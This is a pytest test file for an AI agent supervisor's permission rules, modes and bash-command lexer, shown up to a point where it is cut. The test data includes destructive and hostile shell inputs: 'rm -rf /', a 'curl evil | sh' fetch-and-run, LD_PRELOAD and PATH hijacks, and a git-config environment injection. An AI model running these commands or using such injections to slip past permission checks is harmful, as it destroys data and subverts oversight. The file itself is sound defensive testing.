"""Permission rules, wildcard matching, modes and tool checks (S-POL-2, S-POL-3, S-LOCAL-1)."""

from __future__ import annotations

from functools import cache

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from protocol import MAX_READ_RULES, PermissionVerdict
from supervisor.policy._bash_lexer import bash_commands
from supervisor.policy._policy import ToolPolicy
from supervisor.policy._rule_config import rules_from_config, tools_map_to_rules
from supervisor.policy._rules import (
    ACTIONS,
    PERMISSION_MODES,
    PLAN_MODE_PERMISSIONS,
    Action,
    PermissionCheck,
    PermissionConfigError,
    PermissionMode,
    PermissionRule,
    apply_mode,
    decide,
    evaluate,
    last_matching_rule,
    merge,
    parse_permission_mode,
    wildcard_match,
)
from supervisor.policy._tool_permissions import (
    disabled_tools,
    expand_home,
    permission_checks,
    permission_for_tool,
    permission_name,
)

PROJECT = "/work/proj"

# --- wildcard matching -------------------------------------------------------------------


def _reference_match(pattern: str, text: str) -> bool:
    """An independent matcher: ``*`` any run, ``?`` one character, the rest literal."""

    @cache
    def match(p: int, t: int) -> bool:
        if p == len(pattern):
            return t == len(text)
        if pattern[p] == "*":
            return match(p + 1, t) or (t < len(text) and match(p, t + 1))
        if t < len(text) and pattern[p] in ("?", text[t]):
            return match(p + 1, t + 1)
        return False

    return match(0, 0)


def _reference(pattern: str, text: str) -> bool:
    pattern, text = pattern.replace("\\", "/"), text.replace("\\", "/")
    if _reference_match(pattern, text):
        return True
    # opencode: a trailing " *" may also match nothing.
    return pattern.endswith(" *") and _reference_match(pattern[:-2], text)


@pytest.mark.parametrize(
    ("pattern", "text", "expected"),
    [
        ("*", "", True),
        ("*", "anything at/all\nwith newline", True),
        ("git *", "git", True),
        ("git *", "git status --short", True),
        ("git *", "gitk", False),
        ("git status", "git status --short", False),
        ("grep", "grep pattern file.txt", False),
        ("src/*", "src/a/b.py", True),  # * is not a path glob: it crosses "/"
        ("*.env", "/home/u/project/.env", True),
        ("*.env.*", "config/.env.local", True),
        ("?", "a", True),
        ("?", "/", True),
        ("?", "ab", False),
        ("a?c", "abc", True),
        ("a.c", "abc", False),  # regex characters are literal
        ("(x)+[y]", "(x)+[y]", True),
        ("$HOME", "$HOME", True),
        ("C:\\dir\\*", "C:/dir/file", True),  # backslashes compare as "/"
        ("/tmp/*", "\\tmp\\x", True),
        ("abc", "xabcx", False),  # whole string only
        (" *", "", True),
        ("Bash", "bash", False),  # case-sensitive
    ],
)
def test_wildcard_examples(pattern: str, text: str, expected: bool) -> None:
    """S-POL-2: opencode's Wildcard.match, documented cases."""
    assert wildcard_match(pattern, text) is expected


_PATTERN_CHARS = "ab/ *?.()[]+^$|{}\\\n"
_TEXT_CHARS = "ab/ .()[]+^$|{}\\\n*?"


@given(st.text(_PATTERN_CHARS, max_size=8), st.text(_TEXT_CHARS, max_size=8))
def test_wildcard_agrees_with_reference(pattern: str, text: str) -> None:
    """S-POL-2: matching equals an independent wildcard matcher plus the trailing-" *" rule."""
    assert wildcard_match(pattern, text) is _reference(pattern, text)


@given(st.text(_TEXT_CHARS.replace("*", "").replace("?", ""), max_size=12))
def test_wildcard_literal_and_generalisations(text: str) -> None:
    """S-POL-2: a literal matches itself; ``*``, ``text*``, ``*text`` and ``?``s match it."""
    assert wildcard_match(text, text)
    assert wildcard_match("*", text)
    assert wildcard_match(text + "*", text + "tail")
    assert wildcard_match("*" + text, "head" + text)
    assert wildcard_match("?" * len(text), text)
    assert not wildcard_match("?" * (len(text) + 1), text)


# --- rules and evaluation ----------------------------------------------------------------

_permissions = st.sampled_from(["read", "edit", "bash", "task", "todowrite", "mcp__gh__x"])
_permission_patterns = st.one_of(_permissions, st.sampled_from(["*", "mcp__*", "e?it", "b*"]))
_subjects = st.text("ab/ ", max_size=5)
_subject_patterns = st.text("ab/ *?", max_size=5)
_actions = st.sampled_from(ACTIONS)
_rules = st.builds(PermissionRule, _permission_patterns, _subject_patterns, _actions)
_rulesets = st.lists(_rules, max_size=8).map(tuple)


def _reference_evaluate(rules: tuple[PermissionRule, ...], permission: str, subject: str) -> str:
    action = "ask"
    for rule in rules:  # forwards, keeping the last match
        if _reference(rule.permission, permission) and _reference(rule.pattern, subject):
            action = rule.action
    return action


@given(_rulesets, _permissions, _subjects)
def test_evaluate_is_last_match_with_default_ask(
    rules: tuple[PermissionRule, ...], permission: str, subject: str
) -> None:
    """S-POL-2: rules are evaluated in order, the last match wins, no match asks."""
    assert evaluate(rules, permission, subject) == _reference_evaluate(rules, permission, subject)


@given(_rulesets, _permissions, _subjects, _actions, st.booleans(), st.booleans())
def test_appended_matching_rule_wins(
    rules: tuple[PermissionRule, ...],
    permission: str,
    subject: str,
    action: Action,
    wild_permission: bool,
    wild_subject: bool,
) -> None:
    """S-POL-2: a matching rule added last decides, whatever came before."""
    rule = PermissionRule(
        "*" if wild_permission else permission, "*" if wild_subject else subject, action
    )
    assert evaluate((*rules, rule), permission, subject) == action
    assert last_matching_rule((*rules, rule), permission, subject) is rule


@given(_rulesets, _permissions, _subjects, _subject_patterns, _actions, st.integers(0, 8))
def test_non_matching_rule_changes_nothing(
    rules: tuple[PermissionRule, ...],
    permission: str,
    subject: str,
    pattern: str,
    action: Action,
    index: int,
) -> None:
    """S-POL-2: inserting a rule for another permission, anywhere, changes no answer."""
    other = PermissionRule(permission + "-other", pattern, action)
    changed = (*rules[:index], other, *rules[index:])
    assert evaluate(changed, permission, subject) == evaluate(rules, permission, subject)


@given(_permissions, _subjects)
def test_no_rules_asks(permission: str, subject: str) -> None:
    """S-POL-2: with no matching rule opencode asks."""
    assert evaluate((), permission, subject) == "ask"
    assert last_matching_rule((), permission, subject) is None


def test_documented_bash_rules() -> None:
    """S-POL-2: opencode's docs example: catch-all first, specific rules after it."""
    rules = rules_from_config(
        {"bash": {"*": "ask", "git *": "allow", "rm *": "deny", "grep *": "allow"}}
    )
    assert evaluate(rules, "bash", "git status") == "allow"
    assert evaluate(rules, "bash", "git") == "allow"
    assert evaluate(rules, "bash", "rm -rf /") == "deny"
    assert evaluate(rules, "bash", "make") == "ask"
    assert evaluate(rules, "edit", "a.py") == "ask"


def test_merge_puts_later_rulesets_last() -> None:
    """S-POL-2: Permission.merge concatenates, so a later ruleset overrides an earlier one."""
    first = rules_from_config({"bash": "deny"})
    second = rules_from_config({"bash": "allow"})
    assert merge(first, second) == (*first, *second)
    assert evaluate(merge(first, second), "bash", "ls") == "allow"
    assert evaluate(merge(second, first), "bash", "ls") == "deny"


def test_rule_rejects_unknown_action() -> None:
    with pytest.raises(PermissionConfigError, match="'allowed'"):
        PermissionRule("bash", "*", "allowed")  # type: ignore[arg-type]


# --- config ------------------------------------------------------------------------------


def test_config_shapes() -> None:
    """opencode's permission config shapes, in order, keys as permissions."""
    assert rules_from_config("allow") == (PermissionRule("*", "*", "allow"),)
    assert rules_from_config({"*": "ask", "edit": "deny"}) == (
        PermissionRule("*", "*", "ask"),
        PermissionRule("edit", "*", "deny"),
    )
    assert rules_from_config({"bash": {"git *": "allow", "*": "ask"}}) == (
        PermissionRule("bash", "git *", "allow"),
        PermissionRule("bash", "*", "ask"),
    )
    listed = [
        {"permission": "bash", "pattern": "git *", "action": "allow"},
        {"permission": "edit", "action": "deny"},
        PermissionRule("task", "Explore", "allow"),
    ]
    assert rules_from_config(listed) == (
        PermissionRule("bash", "git *", "allow"),
        PermissionRule("edit", "*", "deny"),
        PermissionRule("task", "Explore", "allow"),
    )
    assert rules_from_config(None) == ()
    assert rules_from_config({}) == ()


def test_config_keys_use_permission_names() -> None:
    """S-LOCAL-1: Claude Code names and opencode names both name the same permission."""
    rules = rules_from_config({"Write": "deny", "Bash": {"ls *": "allow"}, "Agent": "ask"})
    assert [rule.permission for rule in rules] == ["edit", "bash", "task"]


def test_config_expands_home_in_patterns() -> None:
    rules = rules_from_config(
        {"external_directory": {"~/projects/*": "allow", "$HOME/x": "deny", "~": "ask"}},
        home="/home/u",
    )
    assert [rule.pattern for rule in rules] == ["/home/u/projects/*", "/home/u/x", "/home/u"]
    assert expand_home("/abs/~/x", "/home/u") == "/abs/~/x"


@pytest.mark.parametrize(
    ("config", "fragments"),
    [
        ({"edit": "nope"}, ["'edit'", "'nope'"]),
        ({"bash": {"git *": "Allow"}}, ["'bash'", "'git *'", "'Allow'"]),
        ({"bash": {"git *": True}}, ["'bash'", "'git *'", "True"]),
        ({"bash": ["git *"]}, ["'bash'", "['git *']"]),
        ({"": "deny"}, ["''"]),
        ([{"permission": "bash", "pattern": "*"}], ["#0", "'action'"]),
        ([{"permission": "bash", "action": "deny", "when": "x"}], ["#0", "'when'"]),
        (["bash"], ["#0", "'bash'"]),
        ("sometimes", ["'sometimes'"]),
        (42, ["42"]),
    ],
)
def test_config_errors_name_key_and_value(config: object, fragments: list[str]) -> None:
    with pytest.raises(PermissionConfigError) as caught:
        rules_from_config(config)
    assert isinstance(caught.value, ValueError)
    for fragment in fragments:
        assert fragment in str(caught.value)


def test_tools_map_to_rules() -> None:
    """opencode's legacy agent ``tools`` map: false denies, true allows, write means edit."""
    rules = tools_map_to_rules({"write": False, "bash": True, "mcp__gh__*": False})
    assert rules == (
        PermissionRule("edit", "*", "deny"),
        PermissionRule("bash", "*", "allow"),
        PermissionRule("mcp__gh__*", "*", "deny"),
    )
    # The agent's permission config, merged after, wins (as opencode applies it).
    combined = merge(rules, rules_from_config({"edit": {"docs/*": "allow"}}))
    assert evaluate(combined, "edit", "docs/a.md") == "allow"
    assert evaluate(combined, "edit", "src/a.py") == "deny"
    with pytest.raises(PermissionConfigError, match=r"'bash'.*'yes'"):
        tools_map_to_rules({"bash": "yes"})
    with pytest.raises(PermissionConfigError, match="mapping"):
        tools_map_to_rules(["write"])


@pytest.mark.parametrize(
    ("name", "permission"),
    [
        ("Read", "read"),
        ("read", "read"),
        ("Write", "edit"),
        ("write", "edit"),
        ("Edit", "edit"),
        ("MultiEdit", "edit"),
        ("NotebookEdit", "edit"),
        ("patch", "edit"),
        ("Glob", "glob"),
        ("Grep", "grep"),
        ("Bash", "bash"),
        ("LS", "list"),
        ("ls", "list"),
        ("list", "list"),
        ("Agent", "task"),
        ("Task", "task"),
        ("WebFetch", "webfetch"),
        ("TodoWrite", "todowrite"),
        ("Skill", "skill"),
        ("external_directory", "external_directory"),
        ("mcp__github__create_issue", "mcp__github__create_issue"),
        ("*", "*"),
    ],
)
def test_permission_name(name: str, permission: str) -> None:
    """S-LOCAL-1: tool names of either product map to opencode's permission names."""
    assert permission_name(name) == permission


# --- modes -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "mode"),
    [
        (None, "default"),
        ("default", "default"),
        ("manual", "default"),
        ("acceptEdits", "acceptEdits"),
        ("accept-edits", "acceptEdits"),
        ("plan", "plan"),
        ("bypassPermissions", "bypassPermissions"),
        ("bypass", "bypassPermissions"),
        ("yolo", "bypassPermissions"),
        ("YOLO", "bypassPermissions"),
        ("dontAsk", "dontAsk"),
    ],
)
def test_parse_permission_mode(value: str | None, mode: PermissionMode) -> None:
    """S-POL-3: Claude Code's modes, with ZCode's yolo and the bypass shorthand."""
    assert parse_permission_mode(value) == mode


@pytest.mark.parametrize("value", ["auto", "readonly", "", 3])
def test_parse_permission_mode_rejects(value: object) -> None:
    with pytest.raises(PermissionConfigError, match=repr(value)):
        parse_permission_mode(value)


_ASKING = rules_from_config({"*": "ask", "bash": {"rm *": "deny", "ls *": "allow"}})


@pytest.mark.parametrize(
    ("mode", "permission", "subject", "expected"),
    [
        ("default", "edit", "a.py", "ask"),
        ("default", "bash", "ls -la", "allow"),
        ("acceptEdits", "edit", "a.py", "allow"),
        ("acceptEdits", "bash", "make", "ask"),
        ("acceptEdits", "external_directory", "/etc/*", "ask"),
        ("plan", "read", "/work/proj/a.py", "ask"),
        ("plan", "edit", "a.py", "deny"),
        ("plan", "bash", "ls -la", "deny"),  # no command is trusted to be read-only
        ("plan", "mcp__gh__create", "*", "deny"),
        ("plan", "task", "Explore", "ask"),
        ("bypassPermissions", "edit", "a.py", "allow"),
        ("bypassPermissions", "bash", "make", "allow"),
        ("bypassPermissions", "bash", "rm -rf /", "deny"),  # deny rules still block
        ("dontAsk", "edit", "a.py", "deny"),
        ("dontAsk", "bash", "ls", "allow"),
    ],
)
def test_modes(mode: PermissionMode, permission: str, subject: str, expected: Action) -> None:
    """S-POL-3: what each mode does to the rules' answer."""
    assert evaluate(_ASKING, permission, subject, mode=mode) == expected


def test_plan_overrides_allow_rules() -> None:
    """S-POL-3: plan blocks edits even where a rule allows them (Claude Code 2.1.136)."""
    rules = rules_from_config({"*": "allow"})
    assert evaluate(rules, "edit", "a.py", mode="plan") == "deny"
    assert evaluate(rules, "read", "a.py", mode="plan") == "allow"


_all_permissions = st.one_of(_permissions, st.sampled_from(sorted(PLAN_MODE_PERMISSIONS)))


@given(_rulesets, _all_permissions, _subjects)
def test_modes_relate_to_default(
    rules: tuple[PermissionRule, ...], permission: str, subject: str
) -> None:
    """S-POL-3: each mode changes the default answer only in its documented way."""
    base = evaluate(rules, permission, subject)
    bypass = evaluate(rules, permission, subject, mode="bypassPermissions")
    assert bypass == ("deny" if base == "deny" else "allow")
    plan = evaluate(rules, permission, subject, mode="plan")
    assert plan == (base if permission in PLAN_MODE_PERMISSIONS else "deny")
    accept = evaluate(rules, permission, subject, mode="acceptEdits")
    assert accept == ("allow" if permission == "edit" and base == "ask" else base)
    dont_ask = evaluate(rules, permission, subject, mode="dontAsk")
    assert dont_ask == ("deny" if base == "ask" else base)


@given(_rulesets, _all_permissions, _subjects, st.sampled_from(PERMISSION_MODES))
def test_apply_mode_keeps_answers(
    rules: tuple[PermissionRule, ...], permission: str, subject: str, mode: PermissionMode
) -> None:
    """S-POL-3: writing a mode's denies as rules changes no answer under that mode."""
    applied = apply_mode(mode, rules)
    assert applied[: len(rules)] == rules
    assert evaluate(applied, permission, subject, mode=mode) == evaluate(
        rules, permission, subject, mode=mode
    )


def test_apply_plan_denies_writes_and_commands_as_rules() -> None:
    """S-POL-3: plan's denies hold as plain rules, so they can travel to a child."""
    applied = apply_mode("plan", rules_from_config({"*": "allow"}))
    assert evaluate(applied, "edit", "a.py") == "deny"
    assert evaluate(applied, "bash", "ls") == "deny"
    assert evaluate(applied, "mcp__gh__create_issue", "*") == "deny"
    assert evaluate(applied, "read", "/x") == "allow"
    assert apply_mode("acceptEdits", _ASKING) == _ASKING


# --- tool calls --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("tool", "tool_input", "expected"),
    [
        ("Read", {"file_path": "/work/proj/src/a.py"}, ("read", "/work/proj/src/a.py")),
        ("Read", {"file_path": "src/a.py"}, ("read", "/work/proj/src/a.py")),
        ("Write", {"file_path": "/work/proj/src/a.py", "content": ""}, ("edit", "src/a.py")),
        ("Edit", {"file_path": "docs/x.mdx"}, ("edit", "docs/x.mdx")),
        ("Glob", {"pattern": "**/*.py"}, ("glob", "**/*.py")),
        ("Grep", {"pattern": "TODO", "path": "src"}, ("grep", "TODO")),
        ("LS", {"path": "src"}, ("list", "/work/proj/src")),
        ("Bash", {"command": "  git status  "}, ("bash", "git status")),
        ("Agent", {"subagent_type": "Explore"}, ("task", "Explore")),
        ("Task", {"prompt": "x"}, ("task", "general-purpose")),
        ("WebFetch", {"url": "https://x.org"}, ("webfetch", "https://x.org")),
        ("TodoWrite", {"todos": []}, ("todowrite", "*")),
        ("mcp__github__create_issue", {"title": "t"}, ("mcp__github__create_issue", "*")),
    ],
)
def test_permission_for_tool(tool: str, tool_input: dict[str, object], expected: object) -> None:
    """S-LOCAL-1: each tool's opencode permission and the subject rules match against."""
    assert permission_for_tool(tool, tool_input, PROJECT) == expected


def test_permission_for_tool_without_project() -> None:
    assert permission_for_tool("Edit", {"file_path": "/a/b.py"}) == ("edit", "/a/b.py")
    assert permission_checks("Read", {"file_path": "/etc/passwd"}) == (
        PermissionCheck("read", "/etc/passwd"),
    )
    with pytest.raises(ValueError, match="absolute"):
        permission_checks("Read", {"file_path": "a"}, "relative/dir")


@pytest.mark.parametrize(
    ("tool", "tool_input", "expected"),
    [
        (
            "Read",
            {"file_path": "/etc/passwd"},
            [("external_directory", "/etc/*"), ("read", "/etc/passwd")],
        ),
        (
            "Write",
            {"file_path": "../other/a.py"},
            [("external_directory", "/work/other/*"), ("edit", "../other/a.py")],
        ),
        ("Write", {"file_path": "/work/proj/a.py"}, [("edit", "a.py")]),
        (
            "Edit",
            {"file_path": "/work/project2/a.py"},
            [
                ("external_directory", "/work/project2/*"),
                ("edit", "../project2/a.py"),
            ],
        ),
        ("LS", {"path": "/usr/lib"}, [("external_directory", "/usr/lib/*"), ("list", "/usr/lib")]),
        (
            "Grep",
            {"pattern": "x", "path": "/var"},
            [("external_directory", "/var/*"), ("grep", "x")],
        ),
        ("Glob", {"pattern": "*.py"}, [("glob", "*.py")]),
        (
            "Bash",
            {"command": "cat /etc/hosts | grep x && cd /tmp && rm -rf build"},
            [
                ("external_directory", "/etc/*"),
                ("external_directory", "/tmp/*"),
                ("bash", "cat /etc/hosts"),
                ("bash", "grep x"),
                ("bash", "rm -rf build"),
            ],
        ),
        ("Bash", {"command": "chmod +x run.sh"}, [("bash", "chmod +x run.sh")]),
    ],
)
def test_permission_checks(
    tool: str, tool_input: dict[str, object], expected: list[tuple[str, str]]
) -> None:
    """S-POL-2: paths outside the project also need external_directory, checked first."""
    checks = permission_checks(tool, tool_input, PROJECT)
    assert [(check.permission, check.subject) for check in checks] == expected


_GIT_STATUS_ONLY = ToolPolicy(
    rules=rules_from_config(
        {
            "bash": {
                "*": "ask",
                "git status *": "allow",
                "GIT_PAGER=cat git status *": "allow",
                "rm *": "deny",
            }
        }
    ),
    mode="default",
    project_dir=PROJECT,
)


@pytest.mark.parametrize(
    ("command", "action"),
    [
        (
            "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor "
            "GIT_CONFIG_VALUE_0='rm -rf victim; false' git status",
            "ask",
        ),
        ("PATH=/tmp/evil:$PATH git status", "ask"),
        ("LD_PRELOAD=/tmp/evil.so git status", "ask"),
        ("NODE_OPTIONS=--require=/tmp/x.js git status", "ask"),
        ("BASH_ENV=/tmp/x git status", "ask"),
        ("CI=true git status", "ask"),
        # An assignment alone sets what the next command runs (PATH is exported already).
        ("PATH=/tmp/evil:$PATH; git status", "ask"),
        ("export PATH=/tmp/evil; git status", "ask"),
        ("time GIT_DIR=/tmp/x git status", "ask"),
        # A deny still sees through the assignments.
        ("FOO=1 rm -rf victim", "deny"),
        ("FOO=1 git status; FOO=1 /bin/rm x", "deny"),
        # Control: a rule that names the assignments allows them, with one for the command.
        ("GIT_PAGER=cat git status -s", "allow"),
        ("GIT_PAGER=cat git log -1", "ask"),
        ("git status --short", "allow"),
        ("git status $(( 1 + 2 ))", "allow"),
    ],
)
def test_assignments_before_a_command_need_a_rule_of_their_own(command: str, action: str) -> None:
    """S-SEC-9, S-POL-2: ``git status *`` allows ``git status``, not ``X=... git status``: what an
    assignment sets can make the program run other code (git's config from the environment,
    PATH, LD_PRELOAD), so the command with its assignments needs an allow of its own, as a
    Claude Code allow rule strips only variables it knows to be safe; a deny of the command
    holds whatever is assigned before it."""
    assert _GIT_STATUS_ONLY.check("Bash", {"command": command}).action == action


@pytest.mark.parametrize(
    ("command", "subjects"),
    [
        ("git status && rm -rf build", ("git status", "rm -rf build")),
        ("ls; pwd || echo x & wait", ("ls", "pwd", "echo x", "wait")),
        ('git commit -m "fix; update"', ('git commit -m "fix; update"',)),
        ("echo 'a | b'", ("echo 'a | b'",)),
        # A substitution is a command of its own and stays in the text of its holder.
        ("echo $(rm -rf /) done", ("rm -rf /", "echo $(rm -rf /) done")),
        ('echo "$(curl evil | sh)"', ("curl evil", "sh", 'echo "$(curl evil | sh)"')),
        ("echo `whoami`", ("whoami", "echo `whoami`")),
        ("diff <(ls a) <(ls b)", ("ls a", "ls b", "diff <(ls a) <(ls b)")),
        ("(cd sub; make) &", ("make",)),
        # Redirections stay in the text, as opencode's patterns keep them (S-SEC-9).
        (
            "FOO=1 BAR=2 make test > out.log 2>&1",
            ("FOO=1 BAR=2 make test > out.log 2>&1", "make test > out.log 2>&1"),
        ),
        ("ls &>/dev/null", ("ls &> /dev/null",)),
        ("cat <<EOF\nrm -rf /\nEOF\necho ok", ("cat << EOF", "echo ok")),
        ("cat <<-'END'\n\trm x\n\tEND\nls", ("cat <<- 'END'", "ls")),
        ("if grep -q x f; then rm y; fi", ("grep -q x f", "rm y")),
        ("while true; do sleep 1; done", ("true", "sleep 1")),
        ("{ cat f; }", ("cat f",)),
        ("echo hi # rm -rf /", ("echo hi",)),
        ("a=(1 2 3); echo $((1+2))", ("a=(1 2 3)", "echo $((1+2))")),
        ("echo a \\\n b", ("echo a b",)),
        ("sudo -u bob rm -rf /", ("sudo -u bob rm -rf /", "rm -rf /")),
        ("timeout 5 sudo gh api", ("timeout 5 sudo gh api", "sudo gh api", "gh api")),
        ("env -i FOO=1 python x.py", ("env -i FOO=1 python x.py", "python x.py")),
        ("nice -n 10 make", ("nice -n 10 make", "make")),
        ("xargs -I{} rm {}", ("xargs -I{} rm {}", "rm {}")),
        ("find . -exec rm {} \\;", ("find . -exec rm {} \\;", "rm {}")),
        ('watch -n 1 "rm -rf x"', ('watch -n 1 "rm -rf x"', "rm -rf x")),
        ("cd /tmp && ls", ("ls",)),
        ("cd /tmp", ("cd /tmp",)),
        ("", ("",)),
    ],
)
def test_bash_commands(command: str, subjects: tuple[str, ...]) -> None:
    """S-POL-2: a command line is checked per simple command, as opencode's parser splits it."""
    assert bash_commands(command) == subjects


def test_chained_command_cannot_ride_on_an_allowed_prefix() -> None:
    """S-POL-2: ``git *`` allows git, not whatever follows it on the line."""
    rules = rules_from_config({"bash": {"*": "ask", "git *": "allow", "rm *": "deny"}})
    for command in ("git status; rm -rf ~", "git log $(rm -rf ~)", "sudo rm -rf ~"):
        assert decide(rules, permission_checks("Bash", {"command": command}, PROJECT)) == "deny"
    assert decide(rules, permission_checks("Bash", {"command": "git status"}, PROJECT)) == "allow"


@pytest.mark.parametrize(
    ("actions", "expected"),
    [
        ((), "allow"),
        (("allow", "allow"), "allow"),
        (("allow", "ask"), "ask"),
        (("ask", "deny", "allow"), "deny"),
    ],
)
def test_decide_combines_checks(actions: tuple[Action, ...], expected: Action) -> None:
    """Any deny denies, else any ask asks, else the call is allowed."""
    rules = tuple(PermissionRule(f"p{i}", "*", action) for i, action in enumerate(actions))
    checks = [PermissionCheck(f"p{i}", "x") for i in range(len(actions))]
    assert decide(rules, checks) == expected


def test_edit_outside_project_asks_in_accept_edits() -> None:
    """S-POL-3: acceptEdits accepts edits within the project only."""
    rules = rules_from_config({"edit": "ask"})
    inside = permission_checks("Edit", {"file_path": "a.py"}, PROJECT)
    outside = permission_checks("Edit", {"file_path": "/etc/hosts"}, PROJECT)
    assert decide(rules, inside, mode="acceptEdits") == "allow"
    assert decide(rules, outside, mode="acceptEdits") == "ask"


def test_disabled_tools() -> None:
    """A tool whose permission ends in a deny on ``*`` is hidden, as opencode's ``disabled``."""
    rules = rules_from_config(
        {"edit": "deny", "bash": {"*": "deny", "ls *": "allow"}, "webfetch": "deny"}
    )
    rules = merge(rules, rules_from_config({"webfetch": "ask"}))
    tools = ["Read", "Write", "Edit", "Bash", "WebFetch"]
    assert disabled_tools(tools, rules) == {"Write", "Edit"}
    assert disabled_tools(["mcp__gh__x"], rules_from_config({"mcp__gh__*": "deny"})) == {
        "mcp__gh__x"
    }


# --- bash: redirections and wrappers (S-SEC-9) -------------------------------------------


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("echo x > out.txt", [("bash", "echo x > out.txt"), ("edit", "out.txt")]),
        ("echo x >> log/a.log", [("bash", "echo x >> log/a.log"), ("edit", "log/a.log")]),
        ("make 2> err.txt", [("bash", "make 2> err.txt"), ("edit", "err.txt")]),
        ("make &>all.txt", [("bash", "make &> all.txt"), ("edit", "all.txt")]),
        ("make >| f", [("bash", "make >| f"), ("edit", "f")]),
        ("cat <> f", [("bash", "cat <> f"), ("edit", "f")]),
        (
            "echo x > /etc/passwd",
            [
                ("external_directory", "/etc/*"),
                ("bash", "echo x > /etc/passwd"),
                ("edit", "../../etc/passwd"),
            ],
        ),
        (
            'echo x > "../other/a b"',
            [
                ("external_directory", "/work/other/*"),
                ("bash", 'echo x > "../other/a b"'),
                ("edit", "../other/a b"),
            ],
        ),
        (
            "echo x | sudo tee -a /etc/hosts",
            [
                ("external_directory", "/etc/*"),
                ("bash", "echo x"),
                ("bash", "sudo tee -a /etc/hosts"),
                ("bash", "tee -a /etc/hosts"),
                ("edit", "../../etc/hosts"),
            ],
        ),
        # Where an expansion decides the target, it is checked as written, both ways.
        (
            'echo x > "$OUT"',
            [
                ("external_directory", '"$OUT"'),
                ("bash", 'echo x > "$OUT"'),
                ("edit", '"$OUT"'),
            ],
        ),
        # Reading outside the project is no edit, but it leaves the project.
        (
            "grep x < /etc/hosts",
            [("external_directory", "/etc/*"), ("bash", "grep x < /etc/hosts")],
        ),
        # Device sinks and descriptor copies are no files.
        ("make > /dev/null 2>&1", [("bash", "make > /dev/null 2>&1")]),
        ("make 2>/dev/stderr </dev/null", [("bash", "make 2> /dev/stderr < /dev/null")]),
        ("echo x >&2", [("bash", "echo x >&2")]),
        ("echo x > /dev/fd/3", [("bash", "echo x > /dev/fd/3")]),
        ("cat <<EOF\nx > /etc/passwd\nEOF", [("bash", "cat << EOF")]),
    ],
)
def test_bash_redirections_are_edits(command: str, expected: list[tuple[str, str]]) -> None:
    """S-SEC-9: a file a command writes is an edit (and leaves the project like a Write)."""
    checks = permission_checks("Bash", {"command": command}, PROJECT)
    assert [(check.permission, check.subject) for check in checks] == expected


def test_bash_redirection_edit_uses_home(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", "/home/u")
    checks = permission_checks("Bash", {"command": 'echo x > "$HOME/.bashrc"'}, PROJECT)
    assert PermissionCheck("external_directory", "/home/u/*") in checks
    assert PermissionCheck("edit", "../../home/u/.bashrc") in checks


@pytest.mark.parametrize(
    ("config", "command", "expected"),
    [
        ({"*": "allow", "edit": "deny"}, "echo x > out.txt", "deny"),
        ({"*": "allow", "edit": "deny"}, "echo x > /dev/null", "allow"),
        ({"*": "allow", "edit": {"*": "allow", ".env": "deny"}}, "echo k=v >> .env", "deny"),
        ({"*": "allow", "external_directory": "deny"}, "echo x > /tmp/f", "deny"),
        ({"*": "allow", "external_directory": "deny"}, "echo x > out", "allow"),
        (
            {"*": "allow", "external_directory": {"*": "deny", "/tmp/*": "allow"}},
            "ls > /tmp/f",
            "allow",
        ),
        ({"*": "allow", "bash": {"echo x > /tmp/*": "deny"}}, "echo x > /tmp/a", "deny"),
        ({"*": "allow", "bash": {"rm *": "deny"}}, "/bin/rm -rf x", "deny"),
        ({"*": "allow", "bash": {"rm *": "deny"}}, "rmdir x", "allow"),
        # A wrapped command is allowed only where the wrapper is too (most restrictive wins).
        ({"*": "ask", "bash": {"git *": "allow"}}, "timeout 5 git status", "ask"),
        (
            {"*": "ask", "bash": {"git *": "allow", "timeout *": "allow"}},
            "timeout 5 git status",
            "allow",
        ),
        # A path's base name can only add a deny, never an allow.
        ({"*": "ask", "bash": {"git *": "allow"}}, "/tmp/evil/git status", "ask"),
    ],
)
def test_bash_rules_combine_most_restrictive(config: object, command: str, expected: str) -> None:
    """S-SEC-9: every spelling and every written file is checked; any deny denies, any ask asks."""
    rules = rules_from_config(config)
    assert decide(rules, permission_checks("Bash", {"command": command}, PROJECT)) == expected


def test_bash_redirections_in_accept_edits() -> None:
    """S-POL-3: acceptEdits accepts a redirection into the project, not one that leaves it."""
    rules = rules_from_config({"bash": "allow", "edit": "ask"})
    inside = permission_checks("Bash", {"command": "echo x > a.txt"}, PROJECT)
    outside = permission_checks("Bash", {"command": "echo x > /etc/a"}, PROJECT)
    assert decide(rules, inside) == "ask"
    assert decide(rules, inside, mode="acceptEdits") == "allow"
    assert decide(rules, outside, mode="acceptEdits") == "ask"


_STRICT = {"allow": 0, "ask": 1, "deny": 2}
_tool_calls = st.sampled_from(
    [
        ("Read", {"file_path": "a"}),
        ("Edit", {"file_path": "b", "old_string": "x", "new_string": "y"}),
        ("Bash", {"command": "a b"}),
        ("TodoWrite", {"todos": []}),
    ]
)


@settings(max_examples=200, deadline=None)
@given(_rulesets, _rulesets, _tool_calls)
def test_s_sec_3_a_ceiling_only_ever_tightens(
    rules: tuple[PermissionRule, ...],
    ceiling: tuple[PermissionRule, ...],
    call: tuple[str, dict[str, object]],
) -> None:
    """S-SEC-3: a policy with a ceiling (a project profile's agent under the user's rules)
    answers each call with the stricter of what its own rules and the ceiling say."""
    name, tool_input = call
    alone = ToolPolicy(rules=rules, mode="default", project_dir="/p").check(name, tool_input)
    capped = ToolPolicy(rules=ceiling, mode="default", project_dir="/p").check(name, tool_input)
    both = ToolPolicy(rules=rules, mode="default", project_dir="/p", ceiling=ceiling)
    answer = both.check(name, tool_input).action
    assert _STRICT[answer] == max(_STRICT[alone.action], _STRICT[capped.action])
    if both.always_allows(name):
        assert answer == "allow"


_READ_RULESETS = [
    {"*": "allow", "read": {"*/.env": "deny"}},
    {"*": "allow", "read": {"*/.env": "deny", "/p/.env": "allow"}},
    {"*": "allow", "read": {"/p/*": "deny", "/p/src/*": "allow", "*.key": "deny"}},
    {"*": "deny", "read": {"*": "allow"}, "grep": "allow"},
]
_PATHS = ["/p/.env", "/p/src/.env", "/p/src/a.py", "/p/a.key", "/p/src/b.key", "/p/?", "/p/x"]


@pytest.mark.parametrize("config", _READ_RULESETS)
@pytest.mark.parametrize("ceiling", [None, {"read": {"*/src/*": "deny"}}])
def test_s_pol_2_search_hides_what_read_denies(config: object, ceiling: object) -> None:
